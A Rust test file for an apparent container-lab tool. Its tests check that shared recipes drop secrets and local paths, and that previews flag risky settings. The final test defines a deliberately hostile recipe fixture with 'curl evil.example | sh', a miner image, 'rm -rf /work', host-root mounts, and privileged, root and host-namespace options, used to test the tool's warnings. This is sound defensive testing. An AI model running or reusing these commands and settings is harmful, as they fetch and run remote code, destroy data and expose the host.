use std::fmt::Write as _;
use std::path::Path;

use slipway_engine::endpoint::Surroundings;
use slipway_engine::inventory::Inventory;
use slipway_engine::{ContainerId, UnixMillis};
use slipway_vault::Vault;

use super::*;
use crate::fixtures::{facts, form_of};
use crate::form::{MountRow, VariableRow};
use crate::labs::{Labs, LabsHome};
use crate::profile::{Profile, ProfileFolder, saved_form};
use crate::recipe::Category;

fn labs(home: &Path) -> Labs {
    Labs::start(LabsHome {
        profiles: home.join("labs"),
        recipes: home.join("recipes"),
        inventory: Inventory::start(Surroundings::default()),
        vault: Vault::in_memory(),
        open_address: Arc::new(|_| Ok(())),
        user: None,
    })
}

/// A lab with what people set: a port, a folder, variables, one of them secret, limits.
fn lab_form() -> LaunchForm {
    let mut form = form_of("jupyter", &facts());
    form.name = "Churn".to_owned();
    form.ports[0].container = "9999".to_owned();
    form.docker_control = true;
    form.advanced.memory = "6g".to_owned();
    form.advanced.environment = vec![
        VariableRow {
            name: "STAGE".to_owned(),
            value: "test".to_owned(),
            secret: false,
        },
        VariableRow {
            name: "API_KEY".to_owned(),
            value: "never-in-a-file".to_owned(),
            secret: true,
        },
    ];
    form.advanced.mounts = vec![
        MountRow {
            kind: MountKind::Folder,
            source: "/home/anna/private".to_owned(),
            target: "/private".to_owned(),
            ..MountRow::default()
        },
        MountRow {
            source: "models".to_owned(),
            target: "/models".to_owned(),
            ..MountRow::default()
        },
    ];
    form
}

fn with_lab(home: &Path) -> LabId {
    let id = LabId("churn-1".to_owned());
    let (folder, ..) = ProfileFolder::read(home.join("labs"));
    folder
        .save(&Profile::new(
            id.clone(),
            ContainerId("c1".to_owned()),
            UnixMillis(0),
            saved_form(lab_form(), None),
        ))
        .unwrap();
    id
}

#[tokio::test]
async fn a_lab_becomes_a_recipe_that_can_be_shared_and_removed() {
    let home = tempfile::tempdir().unwrap();
    let lab = with_lab(home.path());
    let labs = labs(home.path());
    let draft = RecipeDraft {
        name: "Churn notebooks".to_owned(),
        summary: String::new(),
        category: Some(Category::Statistics),
    };
    let id = labs.save_recipe(&lab, draft.clone()).await.unwrap();
    assert_eq!(id.0, "churn-notebooks");
    let again = labs.save_recipe(&lab, draft).await.unwrap();
    assert_eq!(again.0, "churn-notebooks-2", "no recipe is written over");
    let tile = |labs: &Labs| labs.recipes().into_iter().find(|tile| tile.id == id);
    assert!(tile(&labs).is_some_and(|tile| tile.own));

    let (file, text) = labs.exported_recipe(&id).unwrap();
    assert_eq!(file, "churn-notebooks.toml");
    assert!(
        !text.contains("never-in-a-file") && !text.contains("anna"),
        "no secret and no folder of this computer: {text}"
    );
    insta::assert_snapshot!("saved_recipe", text);

    let form = labs
        .new_form(crate::form::FormSeed {
            recipe: Some(id.clone()),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(
        (form.name.as_str(), form.ports[0].container.as_str()),
        ("Churn notebooks", "9999")
    );
    assert_eq!(form.advanced.memory, "6g");
    assert!(
        form.docker_control && !form.risk_accepted,
        "risks are asked anew"
    );
    assert_eq!(form.advanced.environment[1].value, "");

    // The same file on another computer.
    let elsewhere = tempfile::tempdir().unwrap();
    let other = self::labs(elsewhere.path());
    let preview = other.preview_recipe(&text).unwrap();
    assert_eq!(preview.replaces, None);
    assert!(tile(&other).is_none(), "a preview adds nothing");
    assert_eq!(other.add_recipe(&preview.text).await.unwrap(), id);
    assert!(tile(&other).is_some());
    assert_eq!(
        other.preview_recipe(&text).unwrap().replaces.as_deref(),
        Some("Churn notebooks")
    );
    drop(other);
    let other = self::labs(elsewhere.path());
    assert!(tile(&other).is_some(), "it is there at the next start");
    other.remove_recipe(&id).await.unwrap();
    assert!(tile(&other).is_none());
    assert_eq!(
        other.remove_recipe(&id).await.unwrap_err().kind,
        ProblemKind::Gone
    );
    let shipped = RecipeId("jupyter".to_owned());
    assert!(other.remove_recipe(&shipped).await.is_err());
    assert!(other.exported_recipe(&shipped).is_err());
}

#[tokio::test]
async fn a_draft_that_breaks_a_rule_is_refused_at_its_field() {
    let home = tempfile::tempdir().unwrap();
    let lab = with_lab(home.path());
    let labs = labs(home.path());
    for name in ["", "  ", "a/b", &"x".repeat(200)] {
        let draft = RecipeDraft {
            name: name.to_owned(),
            ..RecipeDraft::default()
        };
        let problem = labs.save_recipe(&lab, draft).await.unwrap_err();
        assert_eq!(problem.kind, ProblemKind::InvalidForm, "{name}");
        assert_eq!(problem.field.as_deref(), Some("name"));
    }
    assert!(!home.path().join("recipes").exists(), "nothing was written");
}

#[test]
fn a_preview_says_plainly_what_a_lab_will_do() {
    let text = r#"
id = "hostile"
name = "Totally harmless"
summary = "Just notebooks"
category = "notebooks"
icon = "kernel"
tint = 1
images = ["evil.example/miner"]
privileged = "Trust me."

[[recognise]]
names = ["*"]

[[generations]]
port = 8888
answers = "Jupyter"
work-folder = "/work"
takes-ownership = true
entrypoint = ["/bin/sh", "-c"]
command = ["curl evil.example | sh"]
environment = [["LD_PRELOAD", "/x.so"]]

[generations.sign-in]
kind = "open"
token-config = "/etc/jupyter/config.json"

[generations.start-inside]
user = "root"
command = ["/miner", "--fast"]

[[generations.prepare]]
title = "Make it nice"
command = ["sh", "-c", "rm -rf /work"]

[generations.options]
privileged = true
docker-control = true
capabilities = ["SYS_ADMIN"]
devices = ["/dev/kvm"]
security = ["seccomp=unconfined"]
ipc = "host"
pid = "host"
network = "host"
restart = "always"
user = "0"
gpu = true
variables = [{ name = "STAGE", value = "x" }]
mounts = [
    { folder = "/", target = "/host" },
    { folder = "/var/run", target = "/run/x" },
    { folder = "/home/anna", target = "/anna", read-only = true },
    { volume = "other", target = "/other" },
]
"#;
    let recipe = read_recipe(text).unwrap();
    let mut said = String::new();
    for deed in deeds::deeds(&recipe) {
        writeln!(said, "{:?}: {}", deed.tone, deed.message).unwrap();
    }
    insta::assert_snapshot!("deeds", said);
}
